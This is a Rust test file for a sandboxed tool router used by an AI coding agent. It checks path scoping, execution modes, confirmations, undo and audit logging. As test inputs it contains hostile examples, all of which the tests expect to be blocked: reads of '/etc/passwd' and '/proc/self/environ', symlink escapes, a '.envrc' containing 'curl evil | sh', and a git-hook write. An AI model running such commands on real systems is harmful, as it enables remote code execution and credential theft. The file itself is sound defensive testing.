//! The router: schema errors, role views, each gate, each mode, observers, repeated refusals, the
//! sandbox found down, the output preview and the result store, checkpoints and verdicts.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::format_collect)]

mod common;

use std::path::PathBuf;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

use common::{Answer, Env, Opts, router, tree};
use serde_json::json;
use spear_core::ExecutionMode::{Ask, Auto, Safe};
use spear_core::{Refusal, RefusalRule, ToolStatus};
use spear_policy::Confirmation;
use spear_runtime::Verdict;
use spear_tools::{Role, ToolObserver, ToolResultEnvelope};

#[test]
fn schema_errors_name_the_field() {
    let env = Env::new();
    let r = router(&env, Opts::mode(Auto));
    for (tool, args, needle) in [
        (
            "read_file",
            json!({"path": "README.md", "colour": 1}),
            "unknown field `colour`",
        ),
        ("read_file", json!({}), "missing field `path`"),
        ("read_file", json!({"path": 7}), "`path`: invalid type"),
        (
            "read_file",
            json!({"path": "README.md", "offset": -1}),
            "`offset`: invalid value",
        ),
        (
            "terminal",
            json!({"command": "true", "timeout": "soon"}),
            "`timeout`: invalid type",
        ),
        (
            "search_files",
            json!({"pattern": "x", "case_insensitive": "yes"}),
            "`case_insensitive`: invalid type",
        ),
        (
            "write_file",
            json!({"path": "a.txt"}),
            "missing field `content`",
        ),
        (
            "terminal",
            json!({"command": "true", "timeout": 601}),
            "`timeout` must be 1 to 600",
        ),
        (
            "terminal",
            json!({"command": "true", "cwd": "/"}),
            "unknown field `cwd`",
        ),
        ("delete_file", json!(["a"]), "expected a JSON object"),
    ] {
        let e = r.call(tool, args.clone());
        assert_eq!(e.result.status, ToolStatus::Failed, "{tool} {args}: {e:?}");
        let reason = e.result.reason.unwrap();
        assert!(reason.contains(needle), "{tool} {args}: {reason}");
        assert!(reason.contains(tool), "{reason}");
    }
    assert!(!env.path("a.txt").exists());
}

#[test]
fn published_schemas_refuse_unknown_fields() {
    let env = Env::new();
    let r = router(&env, Opts::mode(Auto));
    let names: Vec<&str> = r.tools().iter().map(|s| s.name).collect();
    assert_eq!(
        names,
        [
            "delete_file",
            "patch",
            "read_file",
            "read_output",
            "search_files",
            "terminal",
            "terminal_kill",
            "terminal_output",
            "write_file"
        ]
    );
    for spec in r.tools() {
        assert_eq!(
            spec.input_schema["additionalProperties"],
            json!(false),
            "{}",
            spec.name
        );
        assert_eq!(spec.input_schema["type"], json!("object"), "{}", spec.name);
    }
}

#[test]
fn roles_hide_writing_tools() {
    let env = Env::new();
    for role in Role::ALL {
        let mut opts = Opts::mode(Auto);
        opts.role = role;
        let r = router(&env, opts);
        let names: Vec<&str> = r.tools().iter().map(|s| s.name).collect();
        let writers = ["write_file", "patch", "delete_file"];
        assert!(names.contains(&"read_file") && names.contains(&"terminal"));
        if role == Role::Implementation {
            assert!(names.contains(&"write_file") && names.contains(&"delete_file"));
        } else {
            assert!(
                writers.iter().all(|w| !names.contains(w)),
                "{role}: {names:?}"
            );
            // A hidden tool does not exist for the caller, whatever the mode.
            let e = r.call("write_file", json!({"path": "x.txt", "content": "x"}));
            assert_eq!(e.result.status, ToolStatus::Failed);
            assert!(
                e.result
                    .reason
                    .unwrap()
                    .contains("no tool named `write_file`")
            );
            assert!(!env.path("x.txt").exists());
            // The terminal runs in SAFE for a read-only role, even in an AUTO session.
            let e = r.call("terminal", json!({"command": "touch made-by-reviewer"}));
            assert_eq!(e.result.status, ToolStatus::Denied, "{role}: {e:?}");
            assert!(!env.path("made-by-reviewer").exists());
            let e = r.call("terminal", json!({"command": "cat README.md"}));
            assert_eq!(e.result.status, ToolStatus::Ok, "{role}: {e:?}");
            assert_eq!(e.result.stdout, "hello\n");
        }
    }
}

#[test]
fn unknown_tool() {
    let env = Env::new();
    let r = router(&env, Opts::mode(Auto));
    let e = r.call("rm_rf", json!({}));
    assert_eq!(e.result.status, ToolStatus::Failed);
    assert!(e.result.reason.unwrap().contains("read_file"));
}

#[test]
fn request_scope_gate() {
    let env = Env::new();
    std::fs::write(env.outside.join("secret.txt"), "outside secret").unwrap();
    std::os::unix::fs::symlink(&env.outside, env.path("link")).unwrap();
    let r = router(&env, Opts::mode(Auto));
    let before = tree(&env.outside);
    for (tool, args) in [
        ("read_file", json!({"path": "../outside/secret.txt"})),
        ("read_file", json!({"path": "link/secret.txt"})),
        ("read_file", json!({"path": "/proc/self/environ"})),
        ("read_file", json!({"path": "/etc/passwd"})),
        (
            "write_file",
            json!({"path": "link/new.txt", "content": "x"}),
        ),
        (
            "write_file",
            json!({"path": "../outside/new.txt", "content": "x"}),
        ),
        ("delete_file", json!({"path": "link/secret.txt"})),
        (
            "terminal",
            json!({"command": "true", "workdir": "../outside"}),
        ),
    ] {
        let e = r.call(tool, args.clone());
        assert_eq!(
            e.result.status,
            ToolStatus::InvalidPath,
            "{tool} {args}: {e:?}"
        );
        assert!(!e.result.stdout.contains("outside secret"));
    }
    assert_eq!(tree(&env.outside), before, "nothing outside changed");
    // Positive control: the same file inside is read.
    std::fs::copy(env.outside.join("secret.txt"), env.path("inside.txt")).unwrap();
    let e = r.call("read_file", json!({"path": "inside.txt"}));
    assert!(e.result.stdout.contains("outside secret"), "{e:?}");
}

#[test]
fn a_command_reports_its_guarantees_and_target_policy_when_its_writes_were_judged() {
    use spear_core::Guarantee;
    let env = Env::new();
    let bits = |e: &ToolResultEnvelope| e.result.guarantees.unwrap().enforced;
    // SAFE: the roots are read-only, so no write of it can reach the workspace.
    let r = router(&env, Opts::mode(Safe));
    let e = r.call("terminal", json!({"command": "cat README.md"}));
    assert_eq!(e.result.status, ToolStatus::Ok, "{e:?}");
    let safe = bits(&e);
    assert!(safe.contains(Guarantee::TargetPolicy) && safe.contains(Guarantee::WriteBoundary));
    // AUTO: a writable command's staged changes are judged before they land.
    let r = router(&env, Opts::mode(Auto));
    let e = r.call("terminal", json!({"command": "echo hi > judged.txt"}));
    assert_eq!(e.result.status, ToolStatus::Ok, "{e:?}");
    assert!(bits(&e).contains(Guarantee::TargetPolicy), "{e:?}");
    assert_eq!(env.read("judged.txt").as_deref(), Some("hi\n"));
    // Not a command: no guarantees at all; a refused command neither.
    let e = r.call("read_file", json!({"path": "README.md"}));
    assert_eq!(e.result.guarantees, None);
    let e = r.call("terminal", json!({"command": "sudo true"}));
    assert_eq!(e.result.status, ToolStatus::Denied, "{e:?}");
    assert_eq!(e.result.guarantees, None);
}

#[test]
fn target_policy_gate_attaches_to_the_file() {
    let env = Env::new();
    env.write("generated/out.rs", "// generated\n");
    env.write(
        "src/gen.rs",
        "// Code generated by protoc. DO NOT EDIT.\nfn x() {}\n",
    );
    let r = router(&env, Opts::mode(Auto));
    let before = tree(&env.ws);
    for (tool, args) in [
        (
            "write_file",
            json!({"path": "generated/out.rs", "content": "x"}),
        ),
        ("write_file", json!({"path": "src/gen.rs", "content": "x"})),
        (
            "write_file",
            json!({"path": ".spear/policy.toml", "content": "x"}),
        ),
        ("delete_file", json!({"path": "generated/out.rs"})),
        ("delete_file", json!({"path": "src/gen.rs"})),
    ] {
        let e = r.call(tool, args.clone());
        assert_eq!(e.result.status, ToolStatus::Denied, "{tool} {args}: {e:?}");
    }
    // Host-run configuration with nobody to ask (no confirmer): not written either.
    for args in [
        json!({"path": ".envrc", "content": "curl evil | sh"}),
        json!({"path": ".git/hooks/pre-commit", "content": "x"}),
    ] {
        let e = r.call("write_file", args.clone());
        assert_eq!(e.result.status, ToolStatus::Cancelled, "{args}: {e:?}");
    }
    assert_eq!(tree(&env.ws), before, "nothing written or deleted");
    // The terminal's writes to the same files are refused too: by the classifier when it can
    // see them, and at the commit of its staged writes when it cannot.
    let e = r.call("terminal", json!({"command": "echo x > generated/out.rs"}));
    assert_eq!(e.result.status, ToolStatus::Denied, "{e:?}");
    // A script the classifier cannot see into: its staged writes are judged and never land.
    env.write(
        "w.py",
        "import sys\nopen(sys.argv[1], 'w').write('changed')\n",
    );
    let e = r.call(
        "terminal",
        json!({"command": "python3 w.py generated/out.rs"}),
    );
    assert_eq!(
        env.read("generated/out.rs").unwrap(),
        "// generated\n",
        "{e:?}"
    );
    let reason = e.result.reason.clone().unwrap_or_default();
    assert!(
        reason.contains("did not let these changes reach the workspace")
            && reason.contains("generated/out.rs"),
        "{e:?}"
    );
    // The script exited 0, but what it changed did not land: not `ok`, and not 0.
    assert_eq!(e.result.status, ToolStatus::Denied, "{e:?}");
    assert_eq!(
        e.result.exit_code,
        Some(spear_core::exit_code::REFUSED),
        "{e:?}"
    );
    assert!(
        e.result.changed_paths.is_empty(),
        "what never landed did not change: {e:?}"
    );
    let e = r.call(
        "terminal",
        json!({"command": "python3 w.py generated/new.rs"}),
    );
    assert!(!env.path("generated/new.rs").exists(), "{e:?}");
    let e = r.call("terminal", json!({"command": "python3 w.py src/gen.rs"}));
    assert!(
        env.read("src/gen.rs")
            .unwrap()
            .starts_with("// Code generated"),
        "{e:?}"
    );
    // Positive control: an ordinary file is written by both.
    let e = r.call(
        "write_file",
        json!({"path": "src/lib.rs", "content": "pub fn f() {}\n"}),
    );
    assert_eq!(e.result.status, ToolStatus::Ok, "{e:?}");
    assert_eq!(e.result.changed_paths, ["src/lib.rs"]);
    let e = r.call("terminal", json!({"command": "python3 w.py src/other.rs"}));
    assert_eq!(e.result.status, ToolStatus::Ok, "{e:?}");
    assert_eq!(e.result.changed_paths, ["src/other.rs"]);
}

/// Build outputs (ignored files) are the build's business: not listed, not checkpointed, and a
/// generator writing into them is not undone.
#[test]
fn ignored_build_outputs_are_left_alone() {
    let env = Env::new();
    env.write(".gitignore", "/target\n");
    env.write("w.py", "import os, sys\nos.makedirs(os.path.dirname(sys.argv[1]), exist_ok=True)\nopen(sys.argv[1], 'w').write('built')\n");
    let r = router(&env, Opts::mode(Auto));
    let e = r.call(
        "terminal",
        json!({"command": "python3 w.py target/out/generated/x.rs"}),
    );
    assert_eq!(e.result.status, ToolStatus::Ok, "{e:?}");
    assert!(e.result.changed_paths.is_empty(), "{e:?}");
    assert_eq!(env.read("target/out/generated/x.rs").unwrap(), "built");
    // Positive control: the same write outside the ignored tree is listed.
    let e = r.call("terminal", json!({"command": "python3 w.py out/x.rs"}));
    assert_eq!(e.result.changed_paths, ["out", "out/x.rs"], "{e:?}");
}

#[test]
fn modes_gate_file_writes() {
    let env = Env::new();
    // SAFE: refused before anything is touched.
    let r = router(&env, Opts::mode(Safe));
    let e = r.call("write_file", json!({"path": "a.txt", "content": "a"}));
    assert_eq!(e.result.status, ToolStatus::Denied, "{e:?}");
    assert_eq!(e.result.rule(), Some(RefusalRule::ToolNotInMode), "{e:?}");
    let e = r.call("delete_file", json!({"path": "README.md"}));
    assert_eq!(e.result.status, ToolStatus::Denied);
    assert!(!env.path("a.txt").exists() && env.path("README.md").exists());
    // SAFE lists no tool that writes; a call to one is answered with the modes that have it and
    // who can start them.
    let names: Vec<&str> = r.tools().iter().map(|s| s.name).collect();
    for writer in ["write_file", "patch", "delete_file"] {
        assert!(
            !names.contains(&writer),
            "{writer} listed in SAFE: {names:?}"
        );
    }
    assert!(names.contains(&"read_file") && names.contains(&"terminal"));
    let e = r.call(
        "patch",
        json!({"patch": "*** Begin Patch\n*** Add File: p.txt\n+p\n*** End Patch\n"}),
    );
    assert_eq!(e.result.status, ToolStatus::Denied, "{e:?}");
    // The wording is the rule's own (spear-core's refusal tests): the modes, and the user.
    assert_eq!(
        e.result.refusal.as_deref(),
        Some(&Refusal::tool_not_in_mode(
            "patch",
            "p.txt",
            Safe,
            &[Ask, Auto]
        )),
        "{e:?}"
    );
    assert!(!env.path("p.txt").exists());
    let names: Vec<String> = router(&env, Opts::mode(Ask))
        .tools()
        .iter()
        .map(|s| s.name.to_owned())
        .collect();
    assert!(names.iter().any(|n| n == "write_file"), "{names:?}");

    // ASK without anyone to ask: cancelled.
    let r = router(&env, Opts::mode(Ask));
    let e = r.call("write_file", json!({"path": "a.txt", "content": "a"}));
    assert_eq!(e.result.status, ToolStatus::Cancelled, "{e:?}");
    assert!(!env.path("a.txt").exists());

    // ASK declined: nothing written; the confirmation showed the path and the content.
    let mut opts = Opts::mode(Ask);
    let (c, seen) = Answer::new(Confirmation::Declined);
    opts.confirmer = Some(c);
    let r = router(&env, opts);
    let e = r.call(
        "write_file",
        json!({"path": "a.txt", "content": "line one\n"}),
    );
    assert_eq!(e.result.status, ToolStatus::Denied, "{e:?}");
    assert!(!env.path("a.txt").exists());
    let shown = seen.lock().unwrap().clone();
    assert_eq!(shown.len(), 1);
    assert!(
        shown[0].contains("a.txt") && shown[0].contains("line one"),
        "{shown:?}"
    );

    // ASK approved, and AUTO: written.
    let mut opts = Opts::mode(Ask);
    opts.confirmer = Some(Answer::new(Confirmation::Approved).0);
    let r = router(&env, opts);
    let e = r.call("write_file", json!({"path": "a.txt", "content": "a"}));
    assert_eq!(e.result.status, ToolStatus::Ok, "{e:?}");
    let r = router(&env, Opts::mode(Auto));
    let e = r.call("write_file", json!({"path": "b/c.txt", "content": "c"}));
    assert_eq!(e.result.status, ToolStatus::Ok, "{e:?}");
    assert_eq!(env.read("b/c.txt").unwrap(), "c");

    // Reads run in every mode.
    for mode in [Safe, Ask, Auto] {
        let r = router(&env, Opts::mode(mode));
        assert_eq!(
            r.call("read_file", json!({"path": "a.txt"})).result.status,
            ToolStatus::Ok
        );
    }
}

/// A call's own confirmer (an MCP client) is asked instead of the router's, for file writes and
/// commands alike; a deferred answer runs nothing and says the answer is awaited.
#[test]
fn a_calls_own_confirmer_is_asked_instead_of_the_routers() {
    let env = Env::new();
    let mut opts = Opts::mode(Ask);
    let (routers, routers_seen) = Answer::new(Confirmation::Approved);
    opts.confirmer = Some(routers);
    let r = router(&env, opts);
    let with = |answer: Confirmation| {
        let (c, seen) = Answer::new(answer);
        let options = spear_tools::CallOptions {
            confirmer: Some(Arc::from(
                c as Box<dyn spear_policy::Confirmer + Send + Sync>,
            )),
            ..Default::default()
        };
        (options, seen)
    };
    let (options, seen) = with(Confirmation::Declined);
    let e = r.call_with(
        "write_file",
        json!({"path": "a.txt", "content": "a"}),
        options,
    );
    assert_eq!(e.result.status, ToolStatus::Denied, "{e:?}");
    assert!(!env.path("a.txt").exists());
    let (options, _) = with(Confirmation::Declined);
    let e = r.call_with("terminal", json!({"command": "echo x > t.txt"}), options);
    assert_eq!(e.result.status, ToolStatus::Denied, "{e:?}");
    assert!(!env.path("t.txt").exists());
    assert_eq!(seen.lock().unwrap().len(), 1);
    let (options, deferred) = with(Confirmation::Deferred);
    let e = r.call_with("terminal", json!({"command": "echo x > t.txt"}), options);
    assert_eq!(e.result.status, ToolStatus::Cancelled, "{e:?}");
    assert!(
        e.result
            .reason
            .unwrap()
            .contains("waits for the user's confirmation")
    );
    assert!(!env.path("t.txt").exists());
    assert_eq!(deferred.lock().unwrap().as_slice(), ["echo x > t.txt"]);
    assert!(routers_seen.lock().unwrap().is_empty());
    // Positive control: without a confirmer of its own the call asks the router's, which approves.
    let e = r.call("terminal", json!({"command": "echo x > t.txt"}));
    assert_eq!(e.result.status, ToolStatus::Ok, "{e:?}");
    assert!(env.path("t.txt").exists());
    assert_eq!(routers_seen.lock().unwrap().len(), 1);
}

#[derive(Default)]
struct Counting {
    before: AtomicUsize,
    after: Mutex<Vec<(String, ToolStatus)>>,
}

struct Shared(Arc<Counting>);

impl ToolObserver for Shared {
    fn before_call(&self, _tool: &str, _args: &serde_json::Value) {
        self.0.before.fetch_add(1, Ordering::SeqCst);
    }

    fn after_call(&self, e: &ToolResultEnvelope) {
        self.0
            .after
            .lock()
            .unwrap()
            .push((e.tool.clone(), e.result.status));
    }
}

#[test]
fn observers_see_every_call() {
    let env = Env::new();
    let mut r = router(&env, Opts::mode(Safe));
    let seen = Arc::new(Counting::default());
    r.add_observer(Box::new(Shared(Arc::clone(&seen))));
    r.call("read_file", json!({"path": "README.md"}));
    r.call("write_file", json!({"path": "x", "content": ""}));
    r.call("nope", json!({}));
    r.call("read_file", json!({"bad": 1}));
    assert_eq!(seen.before.load(Ordering::SeqCst), 4);
    assert_eq!(
        *seen.after.lock().unwrap(),
        [
            ("read_file".to_owned(), ToolStatus::Ok),
            ("write_file".to_owned(), ToolStatus::Denied),
            ("nope".to_owned(), ToolStatus::Failed),
            ("read_file".to_owned(), ToolStatus::Failed),
        ]
    );
}

#[test]
fn repeated_refusals_stop_the_turn() {
    let env = Env::new();
    env.write("generated/x.rs", "x");
    let r = router(&env, Opts::mode(Auto));
    let spellings = [
        "generated/x.rs",
        "./generated/x.rs",
        "generated/./x.rs",
        "generated//x.rs",
        "./generated/../generated/x.rs",
    ];
    for (i, path) in spellings.iter().enumerate() {
        let e = r.call("write_file", json!({"path": path, "content": "y"}));
        assert_eq!(e.result.status, ToolStatus::Denied, "{i}: {e:?}");
        assert_eq!(e.turn_stopped, i == 4, "{i}: {e:?}");
        if i == 4 {
            assert_eq!(e.result.rule(), Some(RefusalRule::TurnStopped), "{e:?}");
            let reason = e.result.reason.unwrap();
            assert!(
                reason.contains("refused 5 times") && reason.contains("generated"),
                "{reason}"
            );
        }
    }
    // Every later call in the turn is refused, even one that would be allowed.
    let e = r.call("read_file", json!({"path": "README.md"}));
    assert_eq!(e.result.status, ToolStatus::Denied);
    assert_eq!(e.result.rule(), Some(RefusalRule::TurnStopped), "{e:?}");
    let log = std::fs::read_to_string(env.audit_path()).unwrap();
    assert_eq!(log.matches("repeated_refusal_stopped").count(), 1, "{log}");
    // A new turn starts afresh.
    r.begin_turn(None).unwrap();
    assert_eq!(
        r.call("read_file", json!({"path": "README.md"}))
            .result
            .status,
        ToolStatus::Ok
    );
    assert_eq!(env.read("generated/x.rs").unwrap(), "x");
}

#[test]
fn different_refusals_do_not_add_up() {
    let env = Env::new();
    let r = router(&env, Opts::mode(Safe));
    for i in 0..8 {
        let e = r.call(
            "write_file",
            json!({"path": format!("f{i}.txt"), "content": "y"}),
        );
        assert!(!e.turn_stopped);
    }
}

#[test]
fn sandbox_down_denies_later_writes() {
    let env = Env::new();
    let mut opts = Opts::mode(Auto);
    opts.bwrap = Some(PathBuf::from("/nonexistent/bwrap"));
    let r = router(&env, opts);
    // Positive control: before the sandbox is found down, a write goes through.
    let e = r.call("write_file", json!({"path": "before.txt", "content": "x"}));
    assert_eq!(e.result.status, ToolStatus::Ok, "{e:?}");
    let e = r.call("terminal", json!({"command": "echo hi"}));
    assert_eq!(e.result.status, ToolStatus::Failed, "{e:?}");
    for (tool, args) in [
        ("write_file", json!({"path": "after.txt", "content": "x"})),
        ("delete_file", json!({"path": "before.txt"})),
        ("terminal", json!({"command": "touch after2.txt"})),
    ] {
        let e = r.call(tool, args);
        assert_eq!(e.result.status, ToolStatus::Denied, "{tool}: {e:?}");
        assert_eq!(
            e.result.rule(),
            Some(RefusalRule::SandboxDown),
            "{tool}: {e:?}"
        );
    }
    assert!(!env.path("after.txt").exists() && env.path("before.txt").exists());
    // A new turn tries again.
    r.begin_turn(None).unwrap();
    let e = r.call("write_file", json!({"path": "after.txt", "content": "x"}));
    assert_eq!(e.result.status, ToolStatus::Ok, "{e:?}");
}

#[test]
fn long_output_is_cut_and_kept() {
    let env = Env::new();
    let r = router(&env, Opts::mode(Safe));
    let e = r.call(
        "terminal",
        json!({"command": "python3 -c \"import sys; [print(f'line {i:06d}') for i in range(20000)]\""}),
    );
    assert_eq!(e.result.status, ToolStatus::Ok, "{:?}", e.result.reason);
    assert!(e.result.truncated);
    let out = &e.result.stdout;
    assert!(out.chars().count() < 50_500, "{}", out.len());
    assert!(out.starts_with("line 000000\n") && out.ends_with("line 019999\n"));
    let reference = e.output_ref.clone().unwrap();
    assert!(
        out.contains(&format!("\"ref\": \"{reference}\"")) && out.contains("characters of stdout")
    );
    // The rest is read back through read_output, in order, and adds up to the whole output.
    let mut whole = String::new();
    let mut offset = 0u64;
    loop {
        let e = r.call(
            "read_output",
            json!({"ref": reference, "offset": offset, "limit": 65536}),
        );
        assert_eq!(e.result.status, ToolStatus::Ok, "{e:?}");
        let text = e.result.stdout;
        match text.rfind("\n[bytes ") {
            Some(i) if e.result.truncated => {
                whole.push_str(&text[..i]);
                offset += u64::try_from(text[..i].len()).unwrap();
            }
            _ => {
                whole.push_str(&text);
                break;
            }
        }
    }
    let expected: String = (0..20000).map(|i| format!("line {i:06}\n")).collect();
    assert_eq!(whole.len(), expected.len());
    let first = whole
        .bytes()
        .zip(expected.bytes())
        .position(|(a, b)| a != b);
    assert!(
        whole == expected,
        "the stored output reads back whole; first difference at {first:?}: {:?} vs {:?}",
        &whole[first.unwrap_or(0).saturating_sub(40)..(first.unwrap_or(0) + 40).min(whole.len())],
        &expected
            [first.unwrap_or(0).saturating_sub(40)..(first.unwrap_or(0) + 40).min(whole.len())]
    );
    // Another session cannot read it.
    let mut opts = Opts::mode(Safe);
    opts.session = Some("another-session".into());
    let other = router(&env, opts);
    let e = other.call("read_output", json!({"ref": reference}));
    assert_ne!(e.result.status, ToolStatus::Ok);
}

#[test]
fn undo_restores_the_last_turn() {
    let env = Env::new();
    env.write("keep.txt", "original\n");
    env.write("gone.txt", "to be deleted\n");
    let r = router(&env, Opts::mode(Auto));
    r.begin_turn(Some("turn-1")).unwrap();
    r.call(
        "write_file",
        json!({"path": "keep.txt", "content": "first edit\n"}),
    );
    r.call(
        "write_file",
        json!({"path": "keep.txt", "content": "second edit\n"}),
    );
    r.call(
        "write_file",
        json!({"path": "new/made.txt", "content": "new\n"}),
    );
    r.call("delete_file", json!({"path": "gone.txt"}));
    let e = r.call(
        "terminal",
        json!({"command": "printf 'by a command' > cmd.txt && printf x >> README.md"}),
    );
    assert_eq!(e.result.status, ToolStatus::Ok, "{e:?}");
    let mut changed = e.result.changed_paths.clone();
    changed.sort();
    assert_eq!(changed, ["README.md", "cmd.txt"]);
    assert_eq!(r.verdict(), Verdict::Unverified);
    let e = r.call("terminal", json!({"command": "test -f cmd.txt"}));
    assert_eq!(e.result.status, ToolStatus::Ok);
    assert_eq!(r.verdict(), Verdict::Verified);

    let store = env.checkpoints();
    let ws =
        spear_workspace::Workspace::open(&spear_workspace::WorkspaceConfig::new(&env.ws)).unwrap();
    let fs = ws.fs().unwrap();
    store.undo_last(&ws, &fs).unwrap();
    assert_eq!(env.read("keep.txt").unwrap(), "original\n");
    assert_eq!(env.read("gone.txt").unwrap(), "to be deleted\n");
    assert_eq!(env.read("README.md").unwrap(), "hello\n");
    assert!(!env.path("new/made.txt").exists());
    assert!(!env.path("cmd.txt").exists());
}

#[test]
fn undo_refuses_after_a_later_change() {
    let env = Env::new();
    env.write("a.txt", "one\n");
    let r = router(&env, Opts::mode(Auto));
    r.call("write_file", json!({"path": "a.txt", "content": "two\n"}));
    env.write("a.txt", "edited by the user\n");
    let store = env.checkpoints();
    let ws =
        spear_workspace::Workspace::open(&spear_workspace::WorkspaceConfig::new(&env.ws)).unwrap();
    let err = store.undo_last(&ws, &ws.fs().unwrap()).unwrap_err();
    assert!(err.to_string().contains("a.txt"), "{err}");
    assert_eq!(env.read("a.txt").unwrap(), "edited by the user\n");
}

#[test]
fn audit_records_metadata_only() {
    let env = Env::new();
    env.write("notes.txt", "file content that must not be logged\n");
    let r = router(&env, Opts::mode(Auto));
    r.call("read_file", json!({"path": "notes.txt"}));
    r.call(
        "terminal",
        json!({"command": "API_TOKEN=tok_abcdef123456 echo output-that-must-not-be-logged"}),
    );
    r.call(
        "write_file",
        json!({"path": "w.txt", "content": "content-not-logged"}),
    );
    let log = std::fs::read_to_string(env.audit_path()).unwrap();
    let records: Vec<serde_json::Value> = log
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(records.len(), 3, "{log}");
    for needle in [
        "file content",
        "output-that",
        "content-not-logged",
        "tok_abcdef123456",
        "abcdef",
    ] {
        assert!(!log.contains(needle), "{needle} in {log}");
    }
    assert_eq!(records[0]["tool"], "read_file");
    assert_eq!(records[1]["tool"], "terminal");
    assert_eq!(records[1]["executable"], "echo (1 arg)");
    assert_eq!(records[1]["status"], "ok");
    assert_eq!(records[2]["changed_paths"], json!(["w.txt"]));
    assert_eq!(records[2]["session"], json!(r.session()));
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(env.audit_path())
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600);
    }
}

/// The router is shared by threads: concurrent writes and commands are all recorded, and the
/// turn's undo puts every file back.
#[test]
fn concurrent_calls_share_one_turn() {
    let env = Env::new();
    for t in 0..4 {
        env.write(&format!("t{t}/base.txt"), "base\n");
    }
    let r = Arc::new(router(&env, Opts::mode(Auto)));
    r.begin_turn(Some("concurrent")).unwrap();
    let handles: Vec<_> = (0..4)
        .map(|t| {
            let r = Arc::clone(&r);
            std::thread::spawn(move || {
                for i in 0..5 {
                    let e = r.call(
                        "write_file",
                        json!({"path": format!("t{t}/f{i}.txt"), "content": format!("{t}-{i}")}),
                    );
                    assert_eq!(e.result.status, ToolStatus::Ok, "{e:?}");
                }
                let e = r.call(
                    "terminal",
                    json!({"command": format!("echo changed > t{t}/base.txt")}),
                );
                assert_eq!(e.result.status, ToolStatus::Ok, "{e:?}");
                assert_eq!(e.result.changed_paths, [format!("t{t}/base.txt")], "{e:?}");
            })
        })
        .collect();
    for h in handles {
        h.join().unwrap();
    }
    assert_eq!(r.evidence().len(), 24);
    let ws =
        spear_workspace::Workspace::open(&spear_workspace::WorkspaceConfig::new(&env.ws)).unwrap();
    env.checkpoints().undo_last(&ws, &ws.fs().unwrap()).unwrap();
    for t in 0..4 {
        assert_eq!(env.read(&format!("t{t}/base.txt")).unwrap(), "base\n");
        for i in 0..5 {
            assert!(!env.path(&format!("t{t}/f{i}.txt")).exists());
        }
    }
}

/// A client's cancellation kills the call's whole tree; a client that asked for progress hears
/// from a long command while it runs.
#[test]
fn cancellation_and_progress() {
    let env = Env::new();
    let r = Arc::new(router(&env, Opts::mode(Safe)));
    let marker = "986543.75";
    let cancel = spear_sandbox::CancelToken::new().unwrap();
    let reports = Arc::new(Mutex::new(Vec::new()));
    let sink_reports = Arc::clone(&reports);
    let options = spear_tools::CallOptions {
        cancel: Some(cancel.clone()),
        progress: Some(Arc::new(move |p| sink_reports.lock().unwrap().push(p))),
        ..spear_tools::CallOptions::default()
    };
    let call = {
        let r = Arc::clone(&r);
        std::thread::spawn(move || {
            r.call_with(
                "terminal",
                json!({"command": format!("echo started; sleep {marker} & sleep {marker}")}),
                options,
            )
        })
    };
    let alive = |m: &str| !spear_testkit::process::processes_with(m).is_empty();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    // Positive controls: the tree runs, and progress arrives while it does.
    while !(alive(marker) && reports.lock().unwrap().len() >= 2) {
        assert!(
            std::time::Instant::now() < deadline,
            "no progress: {:?}",
            reports.lock().unwrap()
        );
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    cancel.cancel();
    let e = call.join().unwrap();
    assert_eq!(e.result.status, ToolStatus::Cancelled, "{e:?}");
    assert!(!alive(marker), "nothing is left running");
    let reports = reports.lock().unwrap();
    assert!(
        reports
            .windows(2)
            .all(|w| w[0].elapsed_ms < w[1].elapsed_ms)
    );
    assert_eq!(reports.last().unwrap().stdout_bytes, 8, "{reports:?}");
}

/// What clients are told about each tool (MCP annotations), and the schema of every answer.
#[test]
fn annotations_and_output_schema() {
    let env = Env::new();
    let r = router(&env, Opts::mode(Auto));
    let table: Vec<(&str, bool, bool, bool, bool)> = r
        .tools()
        .iter()
        .map(|s| {
            let a = s.annotations;
            (
                s.name,
                a.read_only,
                a.destructive,
                a.idempotent,
                a.open_world,
            )
        })
        .collect();
    assert_eq!(
        table,
        [
            ("delete_file", false, true, true, false),
            ("patch", false, true, false, false),
            ("read_file", true, false, true, false),
            ("read_output", true, false, true, false),
            ("search_files", true, false, true, false),
            ("terminal", false, true, false, true),
            ("terminal_kill", false, true, true, false),
            ("terminal_output", true, false, false, false),
            ("write_file", false, true, true, false),
        ]
    );
    let schema = spear_tools::output_schema();
    let props = schema["properties"].as_object().unwrap();
    for key in spear_core::ToolResult::KEYS.iter().chain(&["tool"]) {
        assert!(props.contains_key(*key), "{key} in {schema}");
    }
    // An answer validates against it in the ways that matter: its keys are all published.
    let e = r.call("read_file", json!({"path": "README.md"}));
    let answer = serde_json::to_value(&e).unwrap();
    for key in answer.as_object().unwrap().keys() {
        assert!(props.contains_key(key), "{key} not in the schema");
    }
}

/// A call cancelled before it runs (while it was asked about, or waited for the write lock)
/// changes nothing, file tools included.
#[test]
fn a_call_cancelled_before_it_runs_changes_nothing() {
    let env = Env::new();
    let r = router(&env, Opts::mode(Auto));
    let cancelled = || {
        let cancel = spear_sandbox::CancelToken::new().unwrap();
        cancel.cancel();
        spear_tools::CallOptions {
            cancel: Some(cancel),
            ..Default::default()
        }
    };
    for (tool, args) in [
        ("write_file", json!({"path": "late.txt", "content": "x"})),
        ("delete_file", json!({"path": "README.md"})),
        ("terminal", json!({"command": "echo x > late.txt"})),
    ] {
        let e = r.call_with(tool, args, cancelled());
        assert_eq!(e.result.status, ToolStatus::Cancelled, "{tool}: {e:?}");
    }
    assert!(!env.path("late.txt").exists());
    assert!(env.path("README.md").exists());
    // Positive control: the same write without the cancellation happens.
    let e = r.call("write_file", json!({"path": "late.txt", "content": "x"}));
    assert_eq!(e.result.status, ToolStatus::Ok, "{e:?}");
    assert!(env.path("late.txt").exists());
}

/// A run verifies only what was there when it started: a write that lands while a (read-only)
/// command runs beside it is not verified by that command.
#[test]
fn a_run_does_not_verify_a_change_made_while_it_ran() {
    let env = Env::new();
    let r = Arc::new(router(&env, Opts::mode(Auto)));
    let run = {
        let r = Arc::clone(&r);
        std::thread::spawn(move || r.call("terminal", json!({"command": "sleep 1.5"})))
    };
